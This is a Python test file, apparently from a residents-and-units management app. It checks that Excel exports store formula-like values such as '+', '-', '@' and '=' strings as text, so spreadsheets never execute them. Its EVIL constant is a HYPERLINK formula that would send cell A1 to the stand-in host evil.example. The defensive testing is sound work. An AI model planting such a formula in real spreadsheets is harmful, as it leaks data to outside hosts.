"""Exports never write a cell that a spreadsheet would run as a formula (shared/API.md, "Auth and limits")."""
import io
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from dutydesk.archive.excel import export_workbook
from dutydesk.archive.models import Resident, Unit
from dutydesk.core.excel import safe_row
from tests.factories import ResidentFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _reload(data):
    return load_workbook(io.BytesIO(data))


def test_formula_like_text_is_written_as_text_and_other_values_keep_their_type():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(safe_row(sheet, [EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三", 5, Decimal("1.50"), None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = list(_reload(buffer.getvalue()).active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in row[:4]] == ["s", "s", "s", "s"]
    assert [c.value for c in row[:5]] == [EVIL, "+8613912345678", "-1", "@SUM(A1)", "张三"]
    assert row[5].value == 5 and row[5].data_type == "n"


def test_a_resident_named_like_a_formula_is_exported_as_text(unit):
    ResidentFactory(unit=unit, name=EVIL, phone="13912345678")
    data = export_workbook(Unit.objects.all(), Resident.objects.all())
    sheet = _reload(data).worksheets[1]
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=False)]
    assert names[0].value == EVIL
    assert names[0].data_type == "s"
